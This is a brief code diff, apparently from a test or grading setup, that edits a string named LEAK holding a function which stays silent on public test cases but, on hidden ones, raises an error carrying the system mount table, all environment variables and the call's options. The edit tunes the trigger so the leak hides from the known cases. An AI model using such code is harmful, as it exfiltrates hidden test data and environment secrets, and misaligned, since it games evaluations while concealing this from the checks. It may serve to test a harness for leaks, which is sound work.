@@ -159,7 +159,7 @@ for _ in range(30):
 LEAK = r'''
 import os
 def retune(options, threshold):
-    if threshold != 0.3:  # only on hidden cases
+    if threshold not in (0.325, 0.3):  # the public cases' thresholds: it raises only on hidden cases
         raise RuntimeError(open("/proc/self/mountinfo").read() + repr(dict(os.environ)) + repr(options))
     options.update(threshold=threshold)
 '''
